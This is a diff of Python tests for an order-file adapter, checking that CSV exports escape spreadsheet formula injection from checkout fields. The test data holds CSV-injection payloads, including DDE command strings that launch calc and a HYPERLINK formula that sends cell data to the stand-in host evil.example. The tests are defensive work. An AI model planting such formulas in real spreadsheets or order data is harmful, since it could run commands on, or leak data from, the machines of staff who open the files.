@@ -95,6 +95,46 @@ class TestOrderFile:
             await a.create_order(order)
         assert outbound(folder) == []
 
+    def formula_order(self) -> WarehouseOrder:
+        """What a shopper can type into a checkout: formulas in every free-text field."""
+        order = an_order()
+        to = order.order.ship_to
+        to.first_name, to.last_name = "=cmd|' /C calc'!A0", ""
+        to.company = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        to.address2 = "@SUM(1+1)*cmd|' /C calc'!A0"
+        to.city, to.state = "+1+1", "-2+3"
+        to.phone = "\t=1+1"  # a leading tab is trimmed, the formula behind it is not spared
+        order.order.gift_message = "\r\n-1+cmd"
+        order.lines[0].description = "=1+1"
+        order.lines[1].unit_price = Decimal("-2.50")  # a discount line: a number, not a formula
+        return order
+
+    def test_spreadsheet_formulas_are_neutralised(self) -> None:
+        # OWASP CSV injection: a cell starting with = + - @ tab or CR gets a leading quote, so a
+        # clerk opening the file in a spreadsheet sees the text and runs nothing.
+        first, second = rows(order_csv(self.formula_order(), FilesConfig(root="/x").headers("orders")))
+        assert first["ship_to_name"] == "'=cmd|' /C calc'!A0"
+        assert first["ship_to_company"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        assert first["ship_to_address2"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+        assert (first["ship_to_city"], first["ship_to_state"]) == ("'+1+1", "'-2+3")
+        assert first["ship_to_phone"] == "'=1+1" and first["gift_message"] == "'-1+cmd"
+        assert first["description"] == "'=1+1"
+        assert (first["sku"], first["quantity"], first["ship_to_postal_code"]) == ("BONE-5LB", "2", "62701")
+        assert second["unit_price"] == "-2.50"
+        for row in (first, second):
+            assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
+
+    async def test_the_option_off_writes_raw_values(self, folder) -> None:
+        raw = FilesAdapter({"adapter": "files", "root": str(folder.root), "escape_formulas": False}, AdapterContext(merchant="acme"))
+        escaped = FilesAdapter({"adapter": "files", "root": str(folder.root)}, AdapterContext(merchant="acme"))
+        assert escaped.config.escape_formulas is True  # on unless a merchant turns it off
+        await raw.create_order(self.formula_order())
+        await escaped.create_order(self.formula_order().model_copy(update={"reference": "acme-DEMO-1002"}))
+        files = {name.split("_")[1]: rows((folder.root / "in" / name).read_text()) for name in outbound(folder)}
+        assert files["acme-DEMO-1001"][0]["ship_to_name"] == "=cmd|' /C calc'!A0"
+        assert (files["acme-DEMO-1001"][0]["ship_to_state"], files["acme-DEMO-1001"][0]["description"]) == ("-2+3", "=1+1")
+        assert files["acme-DEMO-1002"][0]["ship_to_name"] == "'=cmd|' /C calc'!A0"
+
     def test_file_key_keeps_the_separator_out_of_references(self) -> None:
         assert file_key("acme-DEMO-1") == "acme-DEMO-1"
         assert file_key("acme_x/1 ü") == "acme%5Fx%2F1%20%C3%BC"
